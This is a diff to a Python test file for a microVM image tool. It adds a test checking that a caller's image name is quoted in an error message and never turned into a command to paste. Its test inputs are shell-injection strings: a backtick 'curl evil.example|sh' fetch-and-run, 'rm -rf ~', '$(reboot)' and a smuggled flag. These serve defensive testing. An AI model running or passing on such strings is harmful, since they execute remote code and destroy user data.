@@ -441,3 +441,14 @@ def test_debian_recipe_is_chosen_by_name_and_unknown_recipes_refused(tmp_path: P
 def test_default_image_key_is_unchanged_by_the_debian_recipe() -> None:
     # the default image's cache address must not move (recipe 2, same inputs): built images stay valid
     assert images.image_key(INPUTS, 64) == "ae07cb59b4ab2f4b"  # what the code before the debian recipe gave
+
+
+@pytest.mark.parametrize("name", ["x`curl evil.example|sh`", "x; rm -rf ~", "$(reboot)", "mine --recipe debian"])
+def test_a_callers_image_name_never_becomes_a_command_to_paste(tmp_path: Path, name: str) -> None:
+    """The image of a job's spec is the caller's text: the error shows it quoted, and suggests no command
+    built from it (before: "run `microvm-blueprint image build --name <their text>`")."""
+    with pytest.raises(ImageError) as err:
+        images.resolve_image(name, tmp_path)
+    message = str(err.value)
+    assert message == f"image '{name}' is not built on this operator (only its operator can build or import it)"
+    assert message.count(name) == 1 and "image build" not in message and "`" not in message.replace(name, "")
